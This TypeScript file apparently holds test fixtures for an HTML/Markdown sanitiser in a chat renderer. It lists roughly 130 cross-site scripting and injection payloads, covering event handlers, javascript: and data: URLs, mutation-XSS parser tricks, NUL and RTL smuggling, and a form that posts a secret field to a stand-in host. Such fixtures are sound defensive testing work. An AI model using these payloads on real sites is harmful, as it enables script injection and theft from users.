/** A place that no page of ours may ever ask for anything. Nobody has it: the domain is reserved. */
export const FOREIGN = 'https://foreign.example';

const HIT = 'window.__hit=1';
const NUL = '\u0000';
const RTL = '\u202e';
const ZERO_WIDTH = '\u200b';

/** Markup that ends where it should, so that several can stand in one text. Each would set `window.__hit`, alert, or ask {@link FOREIGN}. */
export const CLOSED_PAYLOADS: readonly string[] = [
  // Elements that run or load something by themselves
  `<script>${HIT}</script>`,
  `<script src="${FOREIGN}/s.js"></script>`,
  `<ScRiPt >${HIT}</sCrIpT >`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<img src=x onerror=${HIT}>`,
  `<img src="${FOREIGN}/p.png">`,
  `<img srcset="${FOREIGN}/p.png 1x" alt=a>`,
  `<IMG """><SCRIPT>${HIT}</SCRIPT>">`,
  `<img/src=x/onerror=alert(1)>`,
  `<svg onload=${HIT}></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${HIT}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${HIT}"></iframe></foreignObject></svg>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<iframe src="${FOREIGN}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.__hit=1&gt;"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<object data="${FOREIGN}/o"></object>`,
  `<embed src="${FOREIGN}/e">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;"></table></math>`,
  `<math href="javascript:${HIT}">x</math>`,
  `<video><source onerror=${HIT}></video>`,
  `<video poster="${FOREIGN}/v.png"></video>`,
  `<audio src=x onerror=${HIT}></audio>`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}></select>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${HIT}>x</div>`,
  `<p onpointerover=${HIT} tabindex=1 onfocus=${HIT}>hover</p>`,
  `<x contenteditable autofocus onfocus=${HIT}>x</x>`,
  // Elements that change the page around them
  `<style>@import "${FOREIGN}/s.css"; body{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(${FOREIGN}/b.png)">x</div>`,
  `<link rel=stylesheet href="${FOREIGN}/s.css">`,
  `<link rel=prefetch href="${FOREIGN}/p">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/m">`,
  `<base href="${FOREIGN}/">`,
  `<form action="${FOREIGN}/f"><input name=secret><button>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<a id=WebChat name=WebChat href=#>clobber</a>`,
  `<table background="${FOREIGN}/t.png"><tr><td>x</td></tr></table>`,
  // Links in HTML
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="JaVaScRiPt:${HIT}">x</a>`,
  `<a href="java&#9;script:${HIT}">x</a>`,
  `<a href="java\tscript:${HIT}">x</a>`,
  `<a href="&#106;avascript&colon;${HIT}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${HIT}">x</a>`,
  `<a href=" &#14; javascript:${HIT}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="x" onclick="${HIT}" onmouseover=${HIT}>x</a>`,
  `<a href="ftp://foreign.example/x">x</a>`,
  `<a href="blob:${FOREIGN}/x">x</a>`,
  // Links, pictures, references and titles in Markdown
  `[x](javascript:${HIT})`,
  `[x](JAVASCRIPT:${HIT})`,
  `[x](java&#x09;script:${HIT})`,
  `[x](&#106;avascript:${HIT})`,
  `[x](javascript&colon;${HIT})`,
  `[x](<java\tscript:${HIT}>)`,
  `[x](\\javascript:${HIT})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  '[x](ftp://foreign.example/x)',
  '[x](sip:a@foreign.example)',
  '[x](file:///etc/passwd)',
  `[x](https://a.example "onmouseover=${HIT}")`,
  `[x](https://a.example '"onmouseover=${HIT} x="')`,
  `[x](https://a.example"onmouseover=${HIT}//)`,
  `[x](https://a.example/?"><img src=x onerror=${HIT}>)`,
  `[<img src=x onerror=${HIT}>](https://a.example)`,
  `![x](javascript:${HIT})`,
  `![x](${FOREIGN}/p.png)`,
  `![x](//foreign.example/p.png)`,
  `![x"onerror="${HIT}](x)`,
  `![x](x "a\\" onerror=\\"${HIT}")`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[![x](${FOREIGN}/p.png)](javascript:${HIT})`,
  `[x]{aria-label="\\" onfocus=${HIT} x=\\""}`,
  `[x](https://a.example){aria-label="a" onclick="${HIT}"}`,
  `<javascript:${HIT}>`,
  `<data:text/html,x>`,
  `[ref][js1]\n\n[js1]: javascript:${HIT} "x"`,
  `[ref][js2]\n\n[js2]: <data:text/html,x> "x"`,
  `[ref][1]\n\n[1]: javascript:${HIT}`,
  `[ref][p]\n\n[p]: ftp://foreign.example/x '"><img src=x onerror=${HIT}>'`,
  '```html"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
  `\`<img src=x onerror=${HIT}>\``,
  `| a |\n| - |\n| <img src=x onerror=${HIT}> |`,
  // Comments, templates, and what parsers read differently
  `<!--><img src=x onerror=${HIT}>-->`,
  `<!-- --!><img src=x onerror=${HIT}> -->`,
  `<![CDATA[><img src=x onerror=${HIT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${HIT}>`,
  `<template><img src=x onerror=${HIT}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=x onerror=${HIT}>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}></style></mglyph></form></mtext></math>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>"></xmp>`,
  `"><img src=x onerror=${HIT}>`,
  `' autofocus onfocus=${HIT} x='`,
  `"onmouseover="${HIT}" x="`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}} <%= ${HIT} %> #{${HIT}}`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `＜script＞${HIT}＜/script＞`,
  `<scr${NUL}ipt>${HIT}</scr${NUL}ipt>`,
  `<img src=x one${NUL}rror=${HIT}>`,
  `<a href="java${NUL}script:${HIT}">x</a>`,
  `${RTL}<img src=x onerror=${HIT}>\u202c`,
  `<img src=x${ZERO_WIDTH} onerror=${HIT}>`,
  `[x](${ZERO_WIDTH}javascript:${HIT})`,
  `$$\\href{javascript:${HIT}}{x}$$ \\(\\url{javascript:${HIT}}\\)`,
  JSON.stringify({ type: 'AdaptiveCard', version: '1.5', body: [{ type: 'Image', url: `${FOREIGN}/card.png` }] }),
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert()//>`,
  `'">><marquee><img src=x onerror=${HIT}></marquee>"></plaintext\\></|\\><svg onload=${HIT}>`,
];

/** Markup that would swallow whatever stands after it, so each is a text of its own. */
export const UNCLOSED_PAYLOADS: readonly string[] = [
  `<img src=x onerror=${HIT}//`,
  `<script>${HIT}//`,
  `<svg/onload=${HIT}`,
  `<!-- <img src=x onerror=${HIT}>`,
  `</textarea></title></style><svg onload=${HIT}>`,
  `<plaintext><img src=x onerror=${HIT}>`,
];

const IN_ONE_TEXT = 8;

/** All payloads in as few texts as they can be, each at most 2,000 characters. */
export function payloadTexts(): readonly string[] {
  const texts: string[] = [];
  for (let at = 0; at < CLOSED_PAYLOADS.length; at += IN_ONE_TEXT) {
    texts.push(CLOSED_PAYLOADS.slice(at, at + IN_ONE_TEXT).join('\n\n'));
  }
  return [...texts, ...UNCLOSED_PAYLOADS];
}
